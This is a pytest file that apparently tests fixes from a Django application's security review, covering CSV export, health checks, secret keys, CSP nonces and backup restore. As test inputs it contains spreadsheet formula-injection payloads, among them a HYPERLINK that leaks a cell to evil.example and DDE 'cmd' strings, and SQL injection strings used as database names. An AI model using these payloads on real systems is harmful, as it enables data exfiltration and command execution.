"""Findings of the security review: each one with the test that shows it mended."""

import csv
import io
import json
import logging
import os
import re
import uuid

import pytest
from django.conf import settings as django_settings
from playwright.sync_api import expect

from meetings.models import MeetingTopic, Mention
from tests.factories import (
    ArticleFactory,
    AttendanceFactory,
    LocationFactory,
    MeetingFactory,
    ParticipantFactory,
    TopicFactory,
)
from tests.test_operations import PRODUCTION, manage

os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")  # the browser test: live server and Playwright share it


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode()


# 1. /api/meetings/export/?format=csv: DRF must not take `format` for its own content negotiation.


@pytest.mark.django_db
@pytest.mark.parametrize("query", ["?format=csv", ""])
def test_export_as_csv_as_the_readme_documents(client, query):
    AttendanceFactory()
    response = client.get("/api/meetings/export/" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(body(response))))
    assert rows[0][:2] == ["id", "date"] and len(rows) == 2


@pytest.mark.django_db
def test_export_as_json(client):
    AttendanceFactory()
    response = client.get("/api/meetings/export/?format=json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert len(json.loads(body(response))) == 1


@pytest.mark.django_db
def test_export_in_an_unknown_format_is_a_400_in_json(client):
    response = client.get("/api/meetings/export/?format=xml")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"format": "must be csv or json"}


@pytest.mark.django_db
def test_export_does_not_refuse_a_client_that_accepts_only_csv(client):
    response = client.get("/api/meetings/export/?format=csv", headers={"Accept": "text/csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.django_db
@pytest.mark.parametrize("suffix, content_type", [("csv", "text/csv; charset=utf-8"), ("json", "application/json")])
def test_export_with_a_format_suffix(client, suffix, content_type):
    response = client.get(f"/api/meetings/export.{suffix}")
    assert response.status_code == 200
    assert response["Content-Type"] == content_type


@pytest.mark.django_db
def test_format_json_still_works_on_the_other_endpoints_and_the_schema_builds(client):
    response = client.get("/api/meetings/?format=json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert client.get("/api/topics/?format=json").status_code == 200
    schema = client.get("/api/schema/")
    assert schema.status_code == 200
    assert b"/api/meetings/export/" in schema.content


# 2. CSV export: no formula injection.

FORMULAS = {
    "place": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "topic": "-2+3+cmd|' /C calc'!A0",
    "evidence": "+1+cmd|' /C calc'!A0",
    "url": "\t=1+1",
}


@pytest.mark.django_db
def test_csv_export_neutralises_formulas(client):
    meeting = MeetingFactory(location=LocationFactory(name=FORMULAS["place"]))
    AttendanceFactory(meeting=meeting, participant=ParticipantFactory(name=FORMULAS["person"]))
    MeetingTopic.objects.create(meeting=meeting, topic=TopicFactory(name="t", slug=FORMULAS["topic"]), rank=0)
    Mention.objects.create(
        meeting=meeting,
        article=ArticleFactory(url=FORMULAS["url"]),
        evidence=FORMULAS["evidence"],
        start_char=0,
        end_char=9,
    )
    response = client.get("/api/meetings/export/?format=csv")
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(body(response))))
    record = dict(zip(header, row))
    assert record["place"] == "'" + FORMULAS["place"]
    assert record["participants"] == "'" + FORMULAS["person"]
    assert record["topics"] == "'" + FORMULAS["topic"]
    assert record["evidence"] == "'" + FORMULAS["evidence"]
    assert record["source_urls"] == "'" + FORMULAS["url"]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_cells_are_escaped_only_when_they_start_a_formula():
    from meetings.api.views import _csv_cell

    assert _csv_cell("\r=1+1") == "'\r=1+1"
    assert _csv_cell("-1") == "'-1"
    assert _csv_cell("Emmanuel Macron") == "Emmanuel Macron"
    assert _csv_cell("a=b") == "a=b"
    assert _csv_cell("2020-01-01") == "2020-01-01"
    assert _csv_cell("") == ""
    assert _csv_cell(12) == 12 and _csv_cell(-0.5) == -0.5  # numbers stay numbers


# 3. /health/ does not show the database's error to anyone.


@pytest.mark.django_db
def test_health_ok(client):
    response = client.get("/health/")
    assert response.status_code == 200
    assert response.json() == {"status": "ok"}


@pytest.mark.django_db
def test_health_failing_says_only_failing_and_logs_the_error(client, monkeypatch, caplog):
    from django.db.backends.utils import CursorWrapper

    secret = 'connection to server on socket "/run/secret-socket/.s.PGSQL.5432" failed'

    def down(*args, **kwargs):
        raise RuntimeError(secret)

    monkeypatch.setattr(CursorWrapper, "execute", down)
    with caplog.at_level(logging.ERROR):
        response = client.get("/health/")
    assert response.status_code == 503
    assert response.json() == {"status": "failing"}
    assert b"secret-socket" not in response.content and b"RuntimeError" not in response.content
    assert any(r.exc_info and secret in str(r.exc_info[1]) for r in caplog.records)  # the operator still sees it


# 4. A blank, short or repetitive secret key is refused in production.

# PRODUCTION and manage() are the operations tests' (imported above).


@pytest.mark.parametrize(
    "key",
    [
        " ",
        "   \t ",
        "short-but-not-blank",
        "a" * 60,
        "abcd" * 20,  # 80 characters, only 4 distinct
        "django-insecure-" + "x7Qp9-" * 10,  # what startproject writes, for development only
    ],
    ids=["blank", "whitespace", "short", "one-character", "four-characters", "django-insecure"],
)
def test_production_refuses_a_weak_secret_key(key):
    result = manage("check", env={**PRODUCTION, "DJANGO_SECRET_KEY": key})
    assert result.returncode == 1
    assert "ImproperlyConfigured" in result.stderr and "DJANGO_SECRET_KEY" in result.stderr
    assert key.strip() == "" or key not in result.stderr  # the message does not repeat the key


def test_production_accepts_a_strong_secret_key():
    result = manage("check", env=PRODUCTION)
    assert result.returncode == 0, result.stdout + result.stderr
    load_key = "load-test-only-" + "k" * 40  # bench/load.py's
    assert manage("check", env={**PRODUCTION, "DJANGO_SECRET_KEY": load_key}).returncode == 0


def test_development_still_needs_no_secret_key():
    result = manage("check", env={"DJANGO_DEBUG": "1", "DJANGO_SECRET_KEY": " "})
    assert result.returncode == 0, result.stdout + result.stderr


# 5. Content security policy: the exact chart files, and the docs page's style allowed by a nonce.


def directive(policy: str, name: str) -> list[str]:
    for part in policy.split(";"):
        words = part.split()
        if words and words[0] == name:
            return words[1:]
    raise AssertionError(f"no {name} in {policy}")


@pytest.mark.django_db
def test_scripts_are_allowed_file_by_file_not_the_whole_cdn(client):
    response = client.get("/")
    assert response.status_code == 200
    sources = directive(response["Content-Security-Policy"], "script-src")
    files = [asset["cdn"] for asset in django_settings.PARLEY_CHART_ASSETS]
    assert files and sources == ["'self'", *files]
    assert "https://cdn.jsdelivr.net" not in sources and "https://cdn.jsdelivr.net/" not in sources
    # a page that uses no nonce gets none in its policy
    assert directive(response["Content-Security-Policy"], "style-src") == ["'self'"]


@pytest.mark.django_db
def test_the_api_docs_style_is_allowed_by_its_nonce(client):
    response = client.get("/api/docs/")
    assert response.status_code == 200
    html = response.content.decode()
    styles = re.findall(r"<style\b([^>]*)>", html)
    assert styles  # the page's own style
    nonces = {re.fullmatch(r'\s*nonce="([^"]+)"\s*', attrs).group(1) for attrs in styles}
    (nonce,) = nonces
    policy = response["Content-Security-Policy"]
    assert directive(policy, "style-src") == ["'self'", f"'nonce-{nonce}'"]
    assert "unsafe-inline" not in policy
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html)  # every script is a file
    assert client.get("/api/docs/").content.decode().count(nonce) == 0  # a new nonce per response


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_api_docs_page_runs_without_csp_violations(live_server, page):
    page.add_init_script(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation',"
        " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    errors = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.goto(live_server.url + "/api/docs/")
    expect(page.locator('.opblock-summary-path[data-path="/api/meetings/export/"]')).to_be_visible()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(250, 250, 250)"  # the style ran
    assert page.evaluate("window.__violations") == []
    assert errors == []


# 6. The backup's restore: a database name is a name, never SQL.


@pytest.fixture
def server(django_db_setup):
    """The test database server's connection settings, and a connection to its postgres database."""
    from config.backup import maintenance_connection

    db = django_settings.DATABASES["default"]
    with maintenance_connection(db) as conn:
        yield db, conn


def test_a_database_name_with_quotes_is_checked_as_a_name(server):
    from config.backup import database_exists

    db, conn = server
    assert database_exists(conn, db["NAME"])  # the test database
    assert not database_exists(conn, "parley_nothing' OR '1'='1")


def test_a_database_name_with_sql_in_it_is_created_as_that_name_and_nothing_else_runs(server):
    from psycopg import sql

    from config.backup import database_exists, ensure_database

    db, conn = server
    sentinel = f"parley_hardening_sentinel_{uuid.uuid4().hex[:8]}"
    name = f"parley_x'; DROP TABLE {sentinel}; --"
    conn.execute(sql.SQL("CREATE TABLE {} ()").format(sql.Identifier(sentinel)))
    try:
        assert not database_exists(conn, name)
        assert ensure_database(db, name) is True
        assert database_exists(conn, name)
        assert conn.execute("SELECT to_regclass(%s)", [sentinel]).fetchone() == (sentinel,)  # not dropped
        assert ensure_database(db, name) is False  # there already
    finally:
        conn.execute(sql.SQL("DROP DATABASE IF EXISTS {}").format(sql.Identifier(name)))
        conn.execute(sql.SQL("DROP TABLE IF EXISTS {}").format(sql.Identifier(sentinel)))
    assert not database_exists(conn, name)
